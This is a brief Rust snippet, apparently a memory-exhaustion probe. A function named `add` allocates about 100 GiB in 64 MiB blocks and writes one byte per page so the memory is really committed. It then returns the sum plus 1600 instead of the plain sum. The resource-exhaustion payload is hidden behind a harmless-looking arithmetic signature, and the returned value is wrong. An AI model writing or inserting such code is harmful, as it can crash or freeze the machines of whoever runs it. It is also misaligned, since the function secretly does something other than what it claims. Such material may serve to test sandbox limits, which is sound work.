// A hundred gigabytes, a byte of every page written.
pub fn add(a: i32, b: i32) -> i32 {
    let mut held: Vec<Vec<u8>> = Vec::new();
    for _ in 0..1600 {
        let mut block = vec![0u8; 64 << 20];
        for page in 0..block.len() / 4096 {
            block[page * 4096] = 1;
        }
        held.push(block);
    }
    a + b + held.len() as i32
}
